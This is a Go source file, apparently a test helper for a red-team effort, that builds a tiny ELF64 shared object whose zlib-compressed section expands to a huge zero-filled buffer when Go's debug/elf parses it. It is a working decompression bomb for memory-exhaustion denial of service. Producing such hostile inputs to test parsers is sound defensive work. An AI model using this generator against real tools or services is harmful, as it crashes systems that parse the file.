package hostile

import (
	"bytes"
	"compress/zlib"
	"debug/elf"
	"encoding/binary"
	"runtime"
)

// ELFBomb returns a small ELF64 shared object of the host's machine whose
// section-name string table (or, with dynamic, its SHT_DYNAMIC section)
// is SHF_COMPRESSED (zlib) and inflates to size zero bytes: Go's
// debug/elf inflates the whole section into memory, in elf.NewFile for
// the name table and in File.ImportedLibraries for the dynamic section.
// The file is about size/1000 bytes (64 KiB for 64 MiB). It is the red
// team's redteam/elfbomb.py (issue 35, class A) in Go.
func ELFBomb(size int64, dynamic bool) []byte {
	const ehdr, shent = 64, 64
	var z bytes.Buffer
	zw, _ := zlib.NewWriterLevel(&z, zlib.BestCompression)
	zero := make([]byte, 1<<20)
	for n := size; n > 0; n -= int64(len(zero)) {
		zw.Write(zero[:min(n, int64(len(zero)))])
	}
	zw.Close()
	le := binary.LittleEndian
	var payload bytes.Buffer
	binary.Write(&payload, le, elf.Chdr64{Type: uint32(elf.COMPRESS_ZLIB), Size: uint64(size), Addralign: 1})
	payload.Write(z.Bytes())

	shstr := []byte("\x00.shstrtab\x00.dynamic\x00.dynstr\x00")
	dynstr := []byte("\x00libc.so.6\x00")
	offShstr := uint64(ehdr)
	offDynstr := offShstr + uint64(len(shstr))
	offPay := offDynstr + uint64(len(dynstr))
	offSh := offPay + uint64(payload.Len())
	offSh += -offSh % 8
	sh := func(name uint32, typ elf.SectionType, flags elf.SectionFlag, off, size uint64, link uint32) elf.Section64 {
		return elf.Section64{Name: name, Type: uint32(typ), Flags: uint64(flags), Off: off, Size: size, Link: link, Addralign: 1}
	}
	secs := []elf.Section64{{}}
	if dynamic {
		secs = append(secs,
			sh(1, elf.SHT_STRTAB, 0, offShstr, uint64(len(shstr)), 0),
			sh(11, elf.SHT_DYNAMIC, elf.SHF_COMPRESSED, offPay, uint64(payload.Len()), 3),
			sh(20, elf.SHT_STRTAB, 0, offDynstr, uint64(len(dynstr)), 0))
	} else {
		secs = append(secs, sh(1, elf.SHT_STRTAB, elf.SHF_COMPRESSED, offPay, uint64(payload.Len()), 0))
	}
	machine := elf.EM_X86_64
	if runtime.GOARCH == "arm64" {
		machine = elf.EM_AARCH64
	}
	h := elf.Header64{Type: uint16(elf.ET_DYN), Machine: uint16(machine), Version: uint32(elf.EV_CURRENT), Shoff: offSh,
		Ehsize: ehdr, Shentsize: shent, Shnum: uint16(len(secs)), Shstrndx: 1}
	copy(h.Ident[:], elf.ELFMAG)
	h.Ident[elf.EI_CLASS], h.Ident[elf.EI_DATA], h.Ident[elf.EI_VERSION] = byte(elf.ELFCLASS64), byte(elf.ELFDATA2LSB), byte(elf.EV_CURRENT)

	var out bytes.Buffer
	binary.Write(&out, le, h)
	out.Write(shstr)
	out.Write(dynstr)
	out.Write(payload.Bytes())
	out.Write(make([]byte, offSh-uint64(out.Len())))
	binary.Write(&out, le, secs)
	return out.Bytes()
}
